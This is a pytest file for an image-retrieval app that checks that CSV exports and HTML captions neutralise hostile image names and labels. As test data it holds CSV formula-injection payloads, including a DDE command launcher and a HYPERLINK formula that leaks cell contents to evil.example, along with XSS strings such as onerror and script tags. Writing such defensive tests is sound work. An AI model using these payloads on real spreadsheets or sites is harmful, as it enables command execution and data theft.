"""A collection whose file names and labels are attacks on whoever opens an export or the
app: a CSV cell that a spreadsheet would run as a formula, HTML that a page would run.
Every CSV writer (the engine's, the CLI's --csv, the API's ?format=csv, the app's
downloads, which all call cbir.export) and every HTML builder is tried with them."""

import csv
import io
import os
import re
import shutil
import subprocess
import sys

import numpy as np
import pytest

from cbir.collection import scan_collection
from cbir.config import Settings
from cbir.engine import Engine
from cbir.export import pr_figure, pr_html, reports_csv, safe_cell, search_csv
from cbir.importing import import_features
from app_pages.common import hit_html
from tests.conftest import COLLECTION, ROOT, make_settings

FORMULA = "+cmd|' -c calc'!A0"  # an id: the file "+cmd|' -c calc'!A0.jpg"
SCRIPT = "<img src=x onerror=window.__pwned=1>"  # an id: a legal file name (no slash)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'  # a label
MODEL = "imported:rand"


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Four real images, two of them with hostile names, one hostile label, and random
    features imported for them (no model to run)."""
    tmp = tmp_path_factory.mktemp("hostile")
    root = tmp / "images"
    root.mkdir()
    names = [FORMULA, SCRIPT, "plain", "other"]
    labels = [HYPERLINK, "<b>bold</b>", "plain", "plain"]
    for i, name in enumerate(names):
        shutil.copy(COLLECTION / f"{i}.jpg", root / f"{name}.jpg")
    with open(root / "labels.csv", "w", newline="") as fh:
        csv.writer(fh).writerows([("id", "label"), *zip(names, labels)])
    vectors = np.random.default_rng(0).normal(size=(4, 8)).astype(np.float32)
    np.savez(tmp / "f.npz", ids=np.array(names), vectors=vectors)
    import_features(tmp / "f.npz", "rand", scan_collection(root), tmp / "features")
    settings = Settings(collection=root, features_dir=tmp / "features", var_dir=tmp / "var")
    return root, tmp / "features", Engine(root, settings)


def test_safe_cell_follows_owasp_and_leaves_numbers_alone():
    assert [safe_cell(v) for v in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx")] == \
           ["'=1+2", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [safe_cell(v) for v in ("plain", "a=b", "", -0.5, 3, None, True)] == ["plain", "a=b", "", -0.5, 3, None, True]


def test_search_and_report_csv_neutralise_ids_and_labels(hostile):
    _, _, engine = hostile
    result = engine.search(MODEL, top_k=3, image_id=FORMULA).to_dict()
    text = search_csv(result)
    assert not _formula_cells(text), text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["query_id"] == "'" + FORMULA and rows[0]["query_label"] == "'" + HYPERLINK
    assert all(float(r["score"]) == pytest.approx(h["score"]) for r, h in zip(rows, result["models"][MODEL]["results"]))
    negative = dict(result, models={MODEL: {**result["models"][MODEL], "results": [dict(result["models"][MODEL]["results"][0], score=-0.25)]}})
    assert list(csv.DictReader(io.StringIO(search_csv(negative))))[0]["score"] == "-0.25"  # a number stays a number
    report = {"name": HYPERLINK, "metric": "cosine", "queries": 4, "mAP": 0.5, "P@10": 0.1, "P@20": 0.05, "R-precision": 0.5,
              "per_class_AP": {"=cls": 1.0}}
    table = reports_csv([report])
    assert not _formula_cells(table) and list(csv.reader(io.StringIO(table)))[1][0] == "'" + HYPERLINK


@pytest.mark.redis
def test_api_csv_is_neutralised(hostile, fresh_redis, tmp_path):
    from fastapi.testclient import TestClient

    from cbir.api.app import create_app

    root, features, _ = hostile
    app = create_app(make_settings(fresh_redis.url, tmp_path, collection=root, features_dir=features), warm_up=False)
    with TestClient(app) as client:
        token = client.post("/api/login", json={"username": "student", "password": "multimedia"}).json()["access_token"]
        r = client.post("/api/search?format=csv", json={"image_id": FORMULA, "models": [MODEL], "top_k": 3},
                        headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
    assert not _formula_cells(r.text) and next(csv.DictReader(io.StringIO(r.text)))["query_label"] == "'" + HYPERLINK


def test_cli_csv_is_neutralised(hostile, tmp_path):
    root, features, _ = hostile
    env = dict(os.environ, CBIR_COLLECTION=str(root), CBIR_FEATURES_DIR=str(features), CBIR_VAR_DIR=str(tmp_path / "var"))
    out = subprocess.run([sys.executable, "-m", "cbir", "search", "--id", FORMULA, "-m", MODEL, "-k", "3",
                          "--csv", str(tmp_path / "s.csv")], cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    text = (tmp_path / "s.csv").read_text()
    assert len(text.splitlines()) == 4 and not _formula_cells(text), text


def test_result_caption_escapes_ids_and_labels(hostile):
    _, _, engine = hostile
    for hit in engine.search(MODEL, top_k=3, image_id="plain").to_dict()["models"][MODEL]["results"]:
        caption = hit_html(hit)
        assert "<img" not in caption and "<b>bold" not in caption and "<iframe" not in caption, caption
    caption = hit_html({"rank": 1, "id": SCRIPT, "label": "<iframe srcdoc='<script>alert(1)</script>'>", "score": 0.5, "relevant": True})
    assert "&lt;img src=x onerror=window.__pwned=1&gt;" in caption and "&lt;iframe srcdoc=&#x27;" in caption
    assert "<" not in re.sub(r"</?(div|b|span|br)\b[^>]*>", "", caption)  # only the builder's own tags


def test_pr_figure_shows_curve_names_as_text():
    """Plotly draws names as a subset of HTML (links included); its own JSON already keeps a
    ``</script>`` in a name from closing pr_html's script, which this checks too."""
    name = "<a href='http://evil.example'>click</a></script><script>window.__pwned=1</script>"
    trace = pr_figure([(name, [0, 1], [1, 0.5])]).data[0]
    assert "<a" not in trace.name and "<a" not in trace.hovertemplate and "&lt;a href=" in trace.name
    page = pr_html([(name, [0, 1], [1, 0.5])], "<img src=x onerror=alert(1)>")
    assert "<script>window.__pwned" not in page and "<img src=x" not in page


@pytest.mark.parametrize("role,shown", [("student", False), ("admin", True)])
def test_the_app_shows_server_paths_to_admins_only(role, shown, tmp_path):
    """The app's error messages follow the API's rule (``public_paths``)."""
    from streamlit.testing.v1 import AppTest

    def page(folder: str):
        from app_pages.common import show_error
        from cbir.errors import CollectionError

        show_error(CollectionError(f"no images in {folder}/holiday: add some"))

    at = AppTest.from_function(page, args=(str(tmp_path),))
    at.session_state["roles"] = [role]
    at.run()
    [error] = at.error
    assert (str(tmp_path) in error.value) is shown, error.value
    assert "holiday" in error.value
